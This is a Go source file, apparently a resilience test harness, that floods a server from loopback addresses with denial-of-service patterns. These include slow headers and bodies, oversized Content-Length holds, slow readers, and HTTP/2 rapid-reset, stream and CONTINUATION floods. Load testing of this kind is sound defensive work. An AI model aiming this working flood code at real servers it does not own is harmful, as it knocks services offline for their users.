//go:build linux

package main

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/url"
	"strings"
	"time"
)

// open opens a connection from one of 200 loopback addresses. It returns nil if it cannot open the connection.
func (a *attacker) open(from int) net.Conn {
	u, err := url.Parse(a.URL)
	if err != nil {
		return nil
	}
	c, err := a.dial(byte(3+from%200))(a.ctx, "tcp", u.Host)
	if err != nil {
		if a.ctx.Err() == nil {
			a.note("not connected")
			time.Sleep(10 * time.Millisecond)
		}
		return nil
	}
	return c
}

// each opens n connections with one worker each, and closes them at the end. A worker whose connection was closed
// opens another connection.
func (a *attacker) each(n int, do func(c net.Conn) error) {
	a.workers(n, func(worker int) {
		c := a.open(worker)
		if c == nil {
			return
		}
		defer c.Close()
		stop := make(chan struct{})
		defer close(stop)
		go func() {
			select {
			case <-a.ctx.Done():
			case <-stop:
			}
			_ = c.Close()
		}()
		a.note("connected")
		if do(c) != nil && a.ctx.Err() == nil {
			a.note("closed")
		}
	})
}

// trickle writes the same text repeatedly and slowly.
func trickle(c net.Conn, text string, every time.Duration) error {
	for {
		if _, err := io.WriteString(c, text); err != nil {
			return err
		}
		time.Sleep(every)
	}
}

// hold waits until the other end closes the connection.
func hold(c net.Conn) error {
	_, err := io.Copy(io.Discard, c)
	return err
}

func (a *attacker) idle() { a.each(a.Idle, hold) }

func (a *attacker) headersAlone() {
	a.each(100, func(c net.Conn) error {
		path := []string{"/webhooks/github", "/v1/runs", "/mcp", "/v1/token"}[rand.IntN(4)]
		fmt.Fprintf(c, "POST %s HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 26214400\r\n"+
			"X-Hub-Signature-256: sha256=00\r\n\r\n", path)
		return hold(c)
	})
}

func (a *attacker) slowHeaders() {
	a.each(1000, func(c net.Conn) error {
		if _, err := io.WriteString(c, "GET /v1/status HTTP/1.1\r\nHost: x\r\n"); err != nil {
			return err
		}
		return trickle(c, "X: "+strings.Repeat("y", 100)+"\r\n", 200*time.Millisecond)
	})
}

func (a *attacker) slowBodies() {
	a.each(500, func(c net.Conn) error {
		fmt.Fprintf(c, "PUT /v1/runs/%s/events/1 HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\nContent-Type: "+
			"application/x-ndjson\r\nContent-Length: 8388608\r\n\r\n", attemptID(21), a.Tokens[0])
		return trickle(c, strings.Repeat(" ", 4096), 50*time.Millisecond)
	})
}

// slowReaders asks for large answers and reads them very slowly.
func (a *attacker) slowReaders() {
	a.each(100, func(c net.Conn) error {
		body := `{"params":{"ref":"t0/app@build:2","limit":10000}}`
		for range 20 {
			fmt.Fprintf(c, "POST /v1/ask/events HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\nContent-Type: "+
				"application/json\r\nContent-Length: %d\r\n\r\n%s", a.Tokens[0], len(body), body)
		}
		for one := make([]byte, 64); ; time.Sleep(100 * time.Millisecond) {
			if _, err := c.Read(one); err != nil {
				return err
			}
		}
	})
}

// These are types and flags of HTTP/2 frames.
const (
	frameHeaders, frameReset, frameSettings, frameContinuation = 1, 3, 4, 9

	endStream, endHeaders = 1, 4
)

func frame(kind, flags byte, stream uint32, payload []byte) []byte {
	b := binary.BigEndian.AppendUint32(nil, uint32(len(payload))<<8|uint32(kind))
	b = append(b, flags)
	b = binary.BigEndian.AppendUint32(b, stream)
	return append(b, payload...)
}

// fields are compressed header fields of HTTP/2: method GET, scheme http, path / and an authority.
var fields = append([]byte{0x82, 0x86, 0x84, 0x41, 1}, 'x')

// http2 sends HTTP/2 without TLS. Each connection begins either with HTTP/2, or with an upgrade from HTTP/1.1.
func (a *attacker) http2(write func(c net.Conn, stream uint32) error) {
	a.each(50, func(c net.Conn) error {
		hello := "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + string(frame(frameSettings, 0, 0, nil))
		if rand.IntN(2) == 0 {
			hello = "GET / HTTP/1.1\r\nHost: x\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n" +
				"HTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n" + hello
		}
		if _, err := io.WriteString(c, hello); err != nil {
			return err
		}
		go func() { _ = hold(c) }()
		for stream := uint32(1); ; stream += 2 {
			if err := write(c, stream); err != nil {
				return err
			}
		}
	})
}

func (a *attacker) rapidReset() {
	a.http2(func(c net.Conn, stream uint32) error {
		_, err := c.Write(append(frame(frameHeaders, endStream|endHeaders, stream, fields),
			frame(frameReset, 0, stream, []byte{0, 0, 0, 8})...))
		return err
	})
}

func (a *attacker) manyStreams() {
	a.http2(func(c net.Conn, stream uint32) error {
		_, err := c.Write(frame(frameHeaders, endHeaders, stream, fields))
		return err
	})
}

func (a *attacker) continuation() {
	more := bytes.Repeat([]byte{0x00, 1, 'x', 1, 'y'}, 3000)
	a.http2(func(c net.Conn, stream uint32) error {
		if stream == 1 {
			_, err := c.Write(frame(frameHeaders, endStream, 1, fields))
			return err
		}
		_, err := c.Write(frame(frameContinuation, 0, 1, more))
		return err
	})
}
